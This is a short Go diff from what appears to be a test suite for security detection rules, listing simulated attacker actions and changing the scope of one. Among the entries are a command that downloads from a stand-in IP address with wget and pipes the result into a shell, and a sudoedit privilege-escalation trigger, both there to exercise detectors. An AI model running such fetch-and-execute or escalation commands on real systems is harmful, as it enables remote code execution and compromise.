@@ -70,7 +70,7 @@ var ownDeeds = []deed{
 	{"Package manager run in a container", inContainer, "as apk add nmap"},
 	{"Program made executable in a container", inContainer, "create /tmp/$NAME | as chmod | chmod 755 /tmp/$NAME"},
 
-	{"Download piped into a shell", anywhere, "run sh -c '(busybox sleep 1;wget -T 1 -t 1 -qO- http://192.0.2.9/)|sh'"},
+	{"Download piped into a shell", outside, "run sh -c '(busybox sleep 1;wget -T 1 -t 1 -qO- http://192.0.2.9/)|sh'"},
 
 	// logins.yaml
 	{"Attack on pkexec or sudoedit", anywhere, `as sudoedit -s \`},
